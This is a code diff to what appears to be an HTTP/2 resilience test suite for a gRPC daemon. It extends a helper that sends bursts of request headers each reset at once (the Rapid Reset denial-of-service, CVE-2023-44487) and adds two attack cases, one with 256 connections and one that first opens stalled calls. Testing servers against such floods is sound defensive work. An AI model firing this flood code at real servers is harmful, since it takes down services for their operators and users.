@@ -513,16 +513,20 @@ def _raw_frame(kind, flags, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-def _rapid_resets(path, connections):
-    """Calls that are reset right after their headers, tens of thousands a second (CVE-2023-44487)."""
+def _rapid_resets(path, connections, beside_a_call=False):
+    """Calls that are reset right after their headers, tens of thousands a second (CVE-2023-44487).
+    beside_a_call: each connection first has a call whose request does not come."""
 
     def send(raw):
+        if beside_a_call and not hasattr(raw, "call"):
+            raw.call = raw.begin()
+            time.sleep(0.1)  # so that the daemon knows of it; no condition of the outcome
         if not hasattr(raw, "block"):
             raw.block = raw.h2.encoder.encode(
                 [(":method", "POST"), (":scheme", "http"), (":path", path),
                  (":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc")],
             )
-            raw.next = 1
+            raw.next = raw.h2.get_next_available_stream_id()
         out = bytearray()
         for _ in range(100):
             # The first block fills the table of the peer; later ones repeat it.
@@ -544,6 +548,17 @@ def rapid_reset():
 def rapid_reset_many():
     """The same from many connections, none of which does much."""
     return _rapid_resets(RawHttp2.TRANSLATE, connections=64)
+
+
+@attack("rapid_reset_hundreds", issue=15, limit=150)
+def rapid_reset_hundreds():
+    return _rapid_resets(RawHttp2.TRANSLATE, connections=256)
+
+
+@attack("rapid_reset_beside_calls", issue=15, limit=150)
+def rapid_reset_beside_calls():
+    """From many connections, each of which has a call whose request may yet come."""
+    return _rapid_resets(RawHttp2.TRANSLATE, connections=64, beside_a_call=True)
 
 
 @attack("rapid_reset_health", issue=12, limit=150)
